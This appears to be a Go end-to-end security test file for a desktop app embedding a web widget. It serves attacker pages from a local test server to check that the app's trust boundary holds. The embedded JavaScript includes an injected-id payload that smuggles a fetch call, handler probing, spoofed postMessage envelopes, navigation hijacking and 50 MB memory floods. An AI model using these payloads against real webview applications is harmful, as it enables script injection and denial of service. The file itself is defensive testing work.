package e2e

// Issue 9: the trust boundary, attacked as the attacker did, against the real binary.
// Each test names the SECURITY.md promise it proves.
//
// The attacker is an origin of its own (a loopback server of this file, not the stand-in):
// it records every request its pages make and every report they send, so what the attacker
// got does not depend on the stand-in widget, which obeys any frame as the real widget does.

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/embeddable-tray/embeddable-tray/bridge"
	"github.com/embeddable-tray/embeddable-tray/e2e/apptest"
	"github.com/embeddable-tray/embeddable-tray/e2e/standin"
)

// attacker is a foreign origin serving the attack pages.
type attacker struct {
	srv *httptest.Server

	mu      sync.Mutex
	hits    map[string]int
	reports []map[string]any
	changed chan struct{}
}

// attackerRequestID is the request id the attack frame posts to the widget window.
const attackerRequestID = "attacker-probe"

func startAttacker(t *testing.T) *attacker {
	t.Helper()
	a := &attacker{hits: map[string]int{}, changed: make(chan struct{})}
	mux := http.NewServeMux()
	mux.HandleFunc("POST /report", func(rw http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		var rep map[string]any
		if json.Unmarshal(body, &rep) == nil {
			a.add(rep)
		}
		rw.WriteHeader(http.StatusNoContent)
	})
	mux.HandleFunc("GET /{page}", func(rw http.ResponseWriter, r *http.Request) {
		page := r.PathValue("page")
		a.mu.Lock()
		a.hits[page]++
		a.mu.Unlock()
		rw.Header().Set("Cache-Control", "no-store")
		js, ok := attackPages[page]
		if !ok {
			rw.WriteHeader(http.StatusNoContent) // the marker and the control: a hit is all
			return
		}
		rw.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(rw, "<!doctype html><meta charset=utf-8><title>attacker</title><script>%s\n%s</script>", attackPrelude, js)
	})
	a.srv = httptest.NewServer(mux)
	t.Cleanup(a.srv.Close)
	return a
}

func (a *attacker) add(rep map[string]any) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.reports = append(a.reports, rep)
	close(a.changed)
	a.changed = make(chan struct{})
}

func (a *attacker) origin() string         { return a.srv.URL }
func (a *attacker) url(page string) string { return a.srv.URL + "/" + page }

// hit is how many times a page was requested.
func (a *attacker) hit(page string) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.hits[page]
}

// all is every report so far.
func (a *attacker) all() []map[string]any {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]map[string]any(nil), a.reports...)
}

// wait returns the first report of the kind.
func (a *attacker) wait(ctx context.Context, t *testing.T, kind string) map[string]any {
	t.Helper()
	for {
		a.mu.Lock()
		for _, r := range a.reports {
			if r["kind"] == kind {
				a.mu.Unlock()
				return r
			}
		}
		changed := a.changed
		a.mu.Unlock()
		select {
		case <-changed:
		case <-ctx.Done():
			t.Fatalf("the attacker's page sent no %q report: %v; got %v", kind, ctx.Err(), a.all())
		}
	}
}

// attackPrelude is shared by the attack pages: report() to the attacker's own origin, the
// handler names it tries, and the injected id whose code would fetch /marker from the page
// it runs in.
const attackPrelude = `"use strict";
var A = location.origin;
function report(r) { return fetch(A + "/report", {method: "POST", body: JSON.stringify(r), keepalive: true}); }
var names = ["external", "embeddableTray", "embeddableTrayHost", "embeddable-tray", "webview", "__webview__", "ipc"];
var handlers = (window.webkit && window.webkit.messageHandlers) || {};
var markerJS = 'fetch("' + A + '/marker?in=" + encodeURIComponent(location.href), {mode: "no-cors"})';
var injectedID = 'x";' + markerJS + ';//';
function tryHandlers(messages) {
  var tried = [];
  var seen = {};
  names.forEach(function (n) {
    seen[n] = typeof handlers[n];
    messages.forEach(function (m) {
      try { handlers[n].postMessage(m); tried.push(n + ":sent"); } catch (e) { tried.push(n + ":" + e.name); }
    });
  });
  var own = [];
  try { own = Object.getOwnPropertyNames(handlers); } catch (e) {}
  return {seen: seen, tried: tried, own: own};
}
window.addEventListener("message", function (e) { report({kind: "got", page: location.pathname, data: e.data}); });
`

// attackPages are the attacker's pages, by name.
var attackPages = map[string]string{
	// frame.html: framed in the widget. It calls every message handler name it can, with the
	// injected id of issue 9 and with envelopes crafted for the host, and posts to the widget
	// window as if it were the widget.
	"frame.html": `
var secret = "0".repeat(64);
var result = tryHandlers([
  JSON.stringify({id: injectedID, method: "embeddableTrayHost", params: ["x", "{}"]}),
  JSON.stringify({id: injectedID, method: "report", params: []}),
  JSON.stringify({kind: "load", href: top === window ? location.href : document.referrer, secret: secret}),
  JSON.stringify({kind: "message", data: {type: "rc-post-message-request", requestId: "attacker-native", path: "/contacts", body: {page: 1}}, secret: secret}),
  {id: injectedID, method: "embeddableTrayHost"},
]);
parent.postMessage({type: "rc-post-message-request", requestId: "` + attackerRequestID + `", path: "/contacts", body: {page: 1}}, "*");
parent.postMessage({type: "rc-login-status-notify", loggedIn: true}, "*");
// The control: a fetch from here reaches the attacker, so the marker would have been seen.
fetch(A + "/control", {mode: "no-cors"}).then(function () {
  result.kind = "frame";
  return report(result);
});
`,
	// top.html: the page the attacker wants the main window to show. It takes everything
	// posted to it, and what Go would post with the page's own postMessage.
	"top.html": `
window.postMessage = function (m) { report({kind: "hijacked", data: m}); };
report({kind: "top-loaded", href: location.href});
`,
	// big.html: framed in the widget, 50 MB at every handler and, three times, a 50 MB
	// message to the widget window.
	"big.html": `
var big = "x".repeat(50 << 20);
var result = tryHandlers([big]);
for (var i = 0; i < 3; i++) {
  parent.postMessage({type: "rc-login-status-notify", loggedIn: true, blob: new ArrayBuffer(50 << 20)}, "*");
}
big = null;
result.kind = "big";
report(result);
`,
	// login.html: the page of a login window; it reports which handlers it can see.
	"login.html": `
var result = tryHandlers([JSON.stringify({id: injectedID, method: "x", params: []})]);
result.kind = "login";
report(result);
`,
}

// frameInWidget makes the stand-in widget page load url in a frame.
func frameInWidget(ctx context.Context, t *testing.T, w *standin.Widget, url string) {
	t.Helper()
	_, err := w.Do(ctx, standin.Command{Op: "attack", URL: url})
	require.NoError(t, err)
}

// launchWithAttacker starts the app on the stand-in with the attacker's origin in
// widget.frameOrigins when allowed: an allowed frame that turns hostile is the worst case.
func launchWithAttacker(t *testing.T, allowed bool) (context.Context, *standin.Widget, *attacker, *apptest.App) {
	t.Helper()
	ctx, w, cfg := setup(t)
	att := startAttacker(t)
	if allowed {
		cfg.Widget.FrameOrigins = []string{att.origin()}
	}
	a := apptest.Launch(t, cfg)
	registration(ctx, t, w, 0)
	return ctx, w, att, a
}

// assertHandlersUnreachable checks a report of tryHandlers: no handler of any name exists
// for the page or frame, so every call failed before it reached the app.
func assertHandlersUnreachable(t *testing.T, rep map[string]any) {
	t.Helper()
	seen, _ := rep["seen"].(map[string]any)
	require.NotEmpty(t, seen, "report: %v", rep)
	for name, typ := range seen {
		assert.Equal(t, "undefined", typ, "handler %q is reachable", name)
	}
	tried, _ := rep["tried"].([]any)
	require.NotEmpty(t, tried)
	for _, r := range tried {
		assert.True(t, strings.HasSuffix(r.(string), ":TypeError"), "a call went through: %v", r)
	}
	assert.Empty(t, rep["own"], "handlers listed")
}

// assertWidgetAnswersOnlyItself: after the attack the widget's own request is answered, the
// attacker's never, and the attacker's frame got nothing from the host.
func assertWidgetAnswersOnlyItself(ctx context.Context, t *testing.T, w *standin.Widget, att *attacker, a *apptest.App) {
	t.Helper()
	_, err := w.Request(ctx, "/no-such-path", map[string]any{})
	require.NoError(t, err, "the widget's own request after the attack")
	for _, r := range w.Reports() {
		if r.Kind == standin.KindMessage && r.Type == bridge.TypeResponse {
			var id string
			r.Field("responseId", &id)
			assert.NotEqual(t, attackerRequestID, id, "the host answered the attacker's request")
			assert.NotEqual(t, "attacker-native", id, "the host answered the attacker's native call")
		}
	}
	for _, rep := range att.all() {
		assert.NotEqual(t, "got", rep["kind"], "the attacker's page received a message: %v", rep)
	}
	select {
	case <-a.Done():
		t.Fatalf("the app exited after the attack:\n%s", a.Log())
	default:
	}
}

// TestAttackFrameInjectedID — SECURITY.md "Foreign frames and other pages": a frame (even of
// an allowed origin) finds no message handler at all, in the page's world or of any name; the
// id of issue 9 ('x";<JS>;//') never runs in the widget page, and its crafted envelopes and
// its posts to the widget window as if it were the widget get no answer.
func TestAttackFrameInjectedID(t *testing.T) {
	ctx, w, att, a := launchWithAttacker(t, true)

	frameInWidget(ctx, t, w, att.url("frame.html"))
	rep := att.wait(ctx, t, "frame")
	assertHandlersUnreachable(t, rep)
	assertWidgetAnswersOnlyItself(ctx, t, w, att, a)
	require.Positive(t, att.hit("control"), "the frame's own fetch reached the attacker")
	assert.Zero(t, att.hit("marker"), "the injected id ran in the widget page")
}

// TestAttackFrameNotAllowedIsNotLoaded — SECURITY.md "Foreign frames and other pages": a frame
// whose origin is not in widget.frameOrigins is not loaded: its script never runs, and none
// of its posts reach the widget.
func TestAttackFrameNotAllowedIsNotLoaded(t *testing.T) {
	ctx, w, att, a := launchWithAttacker(t, false)

	frameInWidget(ctx, t, w, att.url("frame.html"))
	require.NoError(t, a.WaitLog(ctx, "refused a page or frame of an origin"))
	// The widget still answers; by now the frame would long have reported.
	assertWidgetAnswersOnlyItself(ctx, t, w, att, a)
	assert.Empty(t, att.all(), "the refused frame ran")
	assert.Zero(t, att.hit("frame.html"), "the refused frame was requested")
	for _, r := range w.Reports() {
		assert.False(t, r.Kind == standin.KindMessage && r.Origin == att.origin(),
			"a message of the refused frame reached the widget: %s", r.Message)
	}
}

// TestAttackTopNavigationGetsNothing — SECURITY.md "A page the main window is sent to": the
// widget page sends the window to the attacker's origin (as a script in it, or a frame it
// obeys, would). The main window stays on the widget, so the attacker's page never loads and
// gets nothing: not the answer to the widget's request, not the authorization status, not a
// number dialled from a second launch. An origin allowed for frames is fetched, refused and
// handed to the system browser; any other origin is refused before a request is made.
func TestAttackTopNavigationGetsNothing(t *testing.T) {
	for _, allowed := range []bool{true, false} {
		t.Run(fmt.Sprintf("allowed for frames %v", allowed), func(t *testing.T) {
			ctx, w, att, a := launchWithAttacker(t, allowed)
			t.Setenv("BROWSER", "true") // xdg-open, where installed, opens nothing

			// A javascript: frame runs in the widget's origin: the widget page itself navigates.
			frameInWidget(ctx, t, w, "javascript:top.location.href="+strconv.Quote(att.url("top.html")))
			if allowed {
				require.NoError(t, a.WaitLog(ctx, "the main window stays on the widget's origin"))
				require.Positive(t, att.hit("top.html"), "WebKit asked for the page (and refused its answer)")
			} else {
				require.NoError(t, a.WaitLog(ctx, "refused a page or frame of an origin"))
			}

			resp, err := w.Request(ctx, "/authorize", map[string]any{"authorized": false})
			require.NoError(t, err, "the widget page is still there and answered")
			assert.NotEmpty(t, resp)
			seq := w.Seq()
			second := a.Again(t, "tel:+15551230199")
			_, err = second.Wait(ctx)
			require.NoError(t, err)
			// The number goes to the window's page: the widget's. (Whether the widget can dial
			// it yet is the widget's business; that it went nowhere else is ours.)
			assertWidgetAnswersOnlyItself(ctx, t, w, att, a)
			for _, rep := range att.all() {
				assert.NotEqual(t, "top-loaded", rep["kind"], "the attacker's page loaded in the main window")
				assert.NotEqual(t, "hijacked", rep["kind"], "the attacker's page got a post: %v", rep)
			}
			if !allowed {
				assert.Zero(t, att.hit("top.html"), "the refused page was requested")
			}
			for _, r := range w.Reports() {
				assert.False(t, r.Seq > seq && r.Kind == standin.KindLoad, "the widget page was replaced")
			}
		})
	}
}

// TestAttackHugeMessages — SECURITY.md "Anything the page sends": 50 MB at every handler and
// 3 × 50 MB posted to the widget window by a frame leave the app's own process (the Go side;
// WebKit's web process holds the pages and is theirs) within 64 MB of its peak before, and
// the widget is answered after.
func TestAttackHugeMessages(t *testing.T) {
	ctx, w, att, a := launchWithAttacker(t, true)
	pid := a.PID()
	before := procStatusKB(t, pid, "VmRSS")
	// Reset the peak, so that VmHWM is the peak during the attack.
	require.NoError(t, os.WriteFile("/proc/"+strconv.Itoa(pid)+"/clear_refs", []byte("5"), 0o200))

	frameInWidget(ctx, t, w, att.url("big.html"))
	rep := att.wait(ctx, t, "big")
	assertHandlersUnreachable(t, rep)
	assertWidgetAnswersOnlyItself(ctx, t, w, att, a)
	peak := procStatusKB(t, pid, "VmHWM")
	t.Logf("app process: VmRSS %d MB before, VmHWM %d MB during the attack", before>>10, peak>>10)
	assert.Less(t, peak-before, int64(64<<10), "the app's memory grew by %d MB", (peak-before)>>10)
}

// procStatusKB reads a "kB" field of /proc/PID/status.
func procStatusKB(t *testing.T, pid int, field string) int64 {
	t.Helper()
	data, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
	require.NoError(t, err)
	for _, line := range strings.Split(string(data), "\n") {
		if rest, ok := strings.CutPrefix(line, field+":"); ok {
			n, err := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(rest), "kB")), 10, 64)
			require.NoError(t, err)
			return n
		}
	}
	t.Fatalf("no %s in /proc/%d/status", field, pid)
	return 0
}

// TestAttackLoginWindowHasNoHandlers — SECURITY.md "Sign-in and RingCentral login windows": the
// window the widget's login opens has no message handler of any name for its page.
func TestAttackLoginWindowHasNoHandlers(t *testing.T) {
	ctx, w, att, a := launchWithAttacker(t, false)
	w.LoginPopup(att.url("login.html"))
	rep := att.wait(ctx, t, "login")
	assertHandlersUnreachable(t, rep)
	assert.Zero(t, att.hit("marker"))
	select {
	case <-a.Done():
		t.Fatalf("the app exited:\n%s", a.Log())
	default:
	}
}
